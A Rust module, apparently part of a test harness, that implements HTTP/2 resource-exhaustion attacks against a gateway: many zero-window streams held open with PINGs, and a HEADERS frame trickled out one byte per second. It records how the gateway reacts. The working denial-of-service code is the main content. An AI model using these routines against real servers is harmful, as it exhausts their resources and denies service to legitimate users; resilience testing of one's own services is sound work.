//! HTTP/2 as an attacker speaks it: the `h2` client with a zero stream window (so the gateway
//! may send headers but no body), PINGs to keep a connection looking alive, and hand-written
//! frames for the HEADERS trickle.

use std::collections::BTreeMap;
use std::net::SocketAddr;
use std::time::{Duration, Instant};

use bytes::Bytes;
use h2::client::SendRequest;
use http::Request;
use tokio::io::{AsyncReadExt, AsyncWriteExt};
use tokio::net::TcpStream;
use tokio::task::JoinHandle;

/// An open h2c connection: the request handle, its PING handle, and the task driving it (which
/// ends when the gateway closes the connection).
pub(crate) struct Connection {
    pub(crate) client: SendRequest<Bytes>,
    pub(crate) ping: h2::PingPong,
    pub(crate) driver: JoinHandle<Result<(), h2::Error>>,
}

/// Prior-knowledge h2c over `stream`; `stream_window: Some(0)` announces
/// SETTINGS_INITIAL_WINDOW_SIZE = 0, so the peer may send no DATA on any stream.
pub(crate) async fn handshake(
    stream: TcpStream,
    stream_window: Option<u32>,
) -> Result<Connection, String> {
    let mut builder = h2::client::Builder::new();
    if let Some(window) = stream_window {
        builder.initial_window_size(window);
    }
    let (client, mut connection) = builder
        .handshake::<_, Bytes>(stream)
        .await
        .map_err(|e| format!("h2 handshake: {e}"))?;
    let ping = connection.ping_pong().ok_or("h2: no ping handle")?;
    let driver = tokio::spawn(connection);
    Ok(Connection {
        client,
        ping,
        driver,
    })
}

/// One native gRPC call with `message` (already gRPC-framed) as the body: `grpc-status N`, or
/// the HTTP status when the answer is not gRPC, or what went wrong.
pub(crate) async fn grpc_call(
    client: &mut SendRequest<Bytes>,
    authority: SocketAddr,
    path: &str,
    message: Bytes,
) -> String {
    let request = Request::post(format!("http://{authority}{path}"))
        .header("content-type", "application/grpc")
        .header("te", "trailers")
        .body(())
        .expect("gRPC request");
    let result = async {
        let mut ready = client.clone().ready().await?;
        let (response, mut send) = ready.send_request(request, false)?;
        send.send_data(message, true)?;
        let response = response.await?;
        if let Some(status) = response.headers().get("grpc-status") {
            return Ok(format!("grpc-status {}", status.to_str().unwrap_or("?")));
        }
        let http_status = response.status();
        let mut body = response.into_body();
        while let Some(chunk) = body.data().await {
            let _ = body.flow_control().release_capacity(chunk?.len());
        }
        Ok::<_, h2::Error>(
            match body
                .trailers()
                .await?
                .and_then(|t| t.get("grpc-status").cloned())
            {
                Some(status) => format!("grpc-status {}", status.to_str().unwrap_or("?")),
                None => format!("HTTP {}", http_status.as_u16()),
            },
        )
    };
    match tokio::time::timeout(Duration::from_secs(5), result).await {
        Ok(Ok(outcome)) => outcome,
        Ok(Err(e)) => format!(
            "h2 error: {}",
            e.reason().map_or("io".to_owned(), |r| format!("{r:?}"))
        ),
        Err(_) => "timeout".to_owned(),
    }
}

/// `streams` GET requests for `path` on one connection whose stream window is zero, then only
/// PINGs (one a second) until `until`: the gateway gets the requests and can answer their headers
/// but can never send a body byte. Says what the attacker saw.
pub(crate) async fn zero_window_streams(
    stream: TcpStream,
    authority: SocketAddr,
    path: &str,
    streams: usize,
    until: Instant,
) -> Vec<String> {
    let started = Instant::now();
    let mut connection = match handshake(stream, Some(0)).await {
        Ok(connection) => connection,
        Err(e) => return vec![format!("attacker could not connect: {e}")],
    };
    let mut heads = Vec::new();
    let mut refused = 0;
    for _ in 0..streams {
        let request = Request::get(format!("http://{authority}{path}"))
            .body(())
            .expect("request");
        let sent = async {
            let mut ready = connection.client.clone().ready().await?;
            ready.send_request(request, true)
        };
        match tokio::time::timeout(Duration::from_secs(2), sent).await {
            // Only the headers are awaited; the body (held by the task) is never read.
            Ok(Ok((response, _))) => heads.push(tokio::spawn(async move {
                let response = tokio::time::timeout_at(until.into(), response).await;
                let outcome = match &response {
                    Ok(Ok(response)) => format!("HTTP {}", response.status().as_u16()),
                    Ok(Err(e)) => format!("reset {:?}", e.reason()),
                    Err(_) => "no headers".to_owned(),
                };
                // Keep the stream (and so its unread answer) open until the attack ends:
                // dropping the response would cancel the stream.
                tokio::time::sleep_until(until.into()).await;
                drop(response);
                outcome
            })),
            _ => refused += 1,
        }
    }
    let mut pings = (0, 0);
    let mut closed_after = None;
    while Instant::now() < until {
        tokio::time::sleep(Duration::from_secs(1).min(until - Instant::now())).await;
        if connection.driver.is_finished() {
            closed_after = Some(started.elapsed());
            break;
        }
        pings.0 += 1;
        let ping = connection.ping.ping(h2::Ping::opaque());
        if let Ok(Ok(_)) = tokio::time::timeout(Duration::from_secs(1), ping).await {
            pings.1 += 1;
        }
    }
    let mut answers = BTreeMap::<String, u32>::new();
    for head in heads {
        if let Ok(outcome) = head.await {
            *answers.entry(outcome).or_default() += 1;
        }
    }
    connection.driver.abort();
    let mut notes = vec![format!(
        "attacker: {streams} × GET {path} on one h2c connection with stream window 0: answers {}; \
         {refused} not sent; {}/{} PINGs answered",
        tally(&answers),
        pings.1,
        pings.0
    )];
    notes.push(match closed_after {
        Some(after) => format!(
            "gateway closed the attacker's connection after {:.1} s",
            after.as_secs_f64()
        ),
        None => "gateway kept the attacker's connection open to the end".to_owned(),
    });
    notes
}

/// Sends the client preface and SETTINGS, acknowledges the gateway's SETTINGS, then one HEADERS
/// frame (GET /v1/echo/hi) one byte per second until `until`. Returns how long the gateway kept
/// the connection: `None` if it was still open at `until`.
pub(crate) async fn trickle_headers(mut stream: TcpStream, until: Instant) -> Option<Duration> {
    let started = Instant::now();
    let mut opening = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n".to_vec();
    opening.extend_from_slice(&frame(0x4, 0, 0, &[])); // our SETTINGS: all defaults
    if stream.write_all(&opening).await.is_err() {
        return Some(started.elapsed());
    }
    let mut buffer = [0u8; 4096];
    // The gateway's first frame is its SETTINGS; acknowledge it, as a real client would.
    match tokio::time::timeout(Duration::from_secs(2), stream.read(&mut buffer)).await {
        Ok(Ok(0)) | Ok(Err(_)) => return Some(started.elapsed()),
        _ => {}
    }
    if stream.write_all(&frame(0x4, 0x1, 0, &[])).await.is_err() {
        return Some(started.elapsed());
    }
    let headers = frame(0x1, 0x5, 1, &hpack_get("/v1/echo/hi")); // END_STREAM | END_HEADERS
    let mut next = 0;
    let mut tick = tokio::time::interval(Duration::from_secs(1));
    loop {
        tokio::select! {
            read = stream.read(&mut buffer) => match read {
                Ok(0) | Err(_) => return Some(started.elapsed()),
                Ok(_) => {}
            },
            _ = tick.tick() => {
                if Instant::now() >= until {
                    return None;
                }
                if let Some(byte) = headers.get(next) {
                    if stream.write_all(&[*byte]).await.is_err() {
                        return Some(started.elapsed());
                    }
                    next += 1;
                }
            }
        }
    }
}

/// An HTTP/2 frame: 24-bit length, type, flags, 31-bit stream id, payload (RFC 9113 §4.1).
fn frame(kind: u8, flags: u8, stream: u32, payload: &[u8]) -> Vec<u8> {
    let length = payload.len() as u32;
    let mut out = length.to_be_bytes()[1..].to_vec();
    out.push(kind);
    out.push(flags);
    out.extend_from_slice(&stream.to_be_bytes());
    out.extend_from_slice(payload);
    out
}

/// An HPACK block for `GET http://localhost{path}` (RFC 7541: indexed `:method GET` = 2,
/// `:scheme http` = 6; literal `:path` and `:authority` with their static-table names).
fn hpack_get(path: &str) -> Vec<u8> {
    let mut block = vec![0x82, 0x86];
    for (name_index, value) in [(0x04u8, path), (0x01, "localhost")] {
        block.push(0x40 | name_index); // literal with incremental indexing, indexed name
        block.push(value.len() as u8); // no Huffman; both values are under 127 bytes
        block.extend_from_slice(value.as_bytes());
    }
    block
}

/// `HTTP 200×3, reset×2`.
pub(crate) fn tally<K: std::fmt::Display>(counts: &BTreeMap<K, u32>) -> String {
    if counts.is_empty() {
        return "none".to_owned();
    }
    counts
        .iter()
        .map(|(k, n)| format!("{k}×{n}"))
        .collect::<Vec<_>>()
        .join(", ")
}
